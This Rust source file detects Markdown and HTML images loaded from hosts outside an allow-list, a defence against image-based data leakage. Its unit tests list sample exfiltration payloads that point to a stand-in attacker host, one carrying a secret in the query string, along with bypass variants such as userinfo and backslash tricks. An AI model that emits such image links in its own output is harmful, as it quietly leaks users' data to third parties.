//! Pictures in Markdown and HTML, and the hosts that they come from.

/// Whether a text shows a picture from a host that is not allowed.
pub(crate) fn foreign_picture(text: &str, hosts: &[String]) -> bool {
    let markdown = text.split("![").skip(1).filter_map(|rest| {
        let (_, rest) = rest.split_once("](")?;
        Some(rest.trim_start().trim_start_matches('<'))
    });
    let html = text.split("<img").skip(1).filter_map(|rest| {
        let (_, rest) = rest.split_once("src")?;
        Some(rest.trim_start().trim_start_matches('=').trim_start().trim_start_matches(['"', '\'']))
    });
    // `![x][name]` takes its address from `[name]: address`.
    let references = text.contains("][").then(|| text.split("]:").skip(1).map(str::trim_start));
    markdown
        .chain(html)
        .chain(references.into_iter().flatten())
        .any(|address| host(address).is_some_and(|host| !allowed(host, hosts)))
}

/// The host of an absolute address; `//host` and `\` are read as browsers do.
fn host(address: &str) -> Option<&str> {
    let rest = address
        .split_once(':')
        .filter(|(scheme, _)| scheme.len() < 8 && scheme.chars().all(|c| c.is_ascii_alphabetic()));
    let rest = match rest {
        Some((scheme, rest))
            if scheme.eq_ignore_ascii_case("http") || scheme.eq_ignore_ascii_case("https") =>
        {
            rest
        }
        Some(_) => return None,
        None if address.starts_with("//") || address.starts_with("\\\\") => address,
        None => return None,
    };
    let rest = rest.trim_start_matches(['/', '\\']);
    let end =
        rest.find(['/', '\\', '?', '#', ')', '"', '\'', ' ', '>', '\n']).unwrap_or(rest.len());
    let authority = rest.get(..end).unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or_default();
    Some(host.split(':').next().unwrap_or_default())
}

fn allowed(host: &str, hosts: &[String]) -> bool {
    hosts.iter().any(|pattern| match pattern.strip_prefix("*.") {
        Some(domain) => {
            let at = host.len().checked_sub(domain.len());
            let tail = at.and_then(|at| host.get(at..));
            tail.is_some_and(|tail| tail.eq_ignore_ascii_case(domain))
                && at.and_then(|at| at.checked_sub(1)).and_then(|at| host.as_bytes().get(at))
                    == Some(&b'.')
        }
        None => host.eq_ignore_ascii_case(pattern),
    })
}

#[cfg(test)]
mod tests {
    #[cfg(target_arch = "wasm32")]
    use wasm_bindgen_test::wasm_bindgen_test as test;

    use super::*;

    #[test]
    fn pictures_come_from_allowed_hosts() {
        let hosts = ["cdn.example.com".to_owned(), "*.pics.example".to_owned()];
        for foreign in [
            "![a](https://evil.example/p?d=secret)",
            "![a](//evil.example/p)",
            "![a](https://cdn.example.com@evil.example/p)",
            "![a](https:\\\\evil.example/p)",
            "![a](HTTPS://EVIL.example)",
            "![a](https://pics.example/x)",
            "![a][1]\n\n[1]: https://evil.example/p",
            "<img alt='x' src = \"http://evil.example\">",
            "![a]( <https://evil.example/p> )",
        ] {
            assert!(foreign_picture(foreign, &hosts), "{foreign}");
        }
        for fine in [
            "![a](https://cdn.example.com/p?d=1)",
            "![a](https://a.pics.example:443/p)",
            "[a link](https://evil.example)",
            "![a](/local.png)",
            "![a](data:image/png;base64,AAAA)",
            "no picture",
        ] {
            assert!(!foreign_picture(fine, &hosts), "{fine}");
        }
    }
}
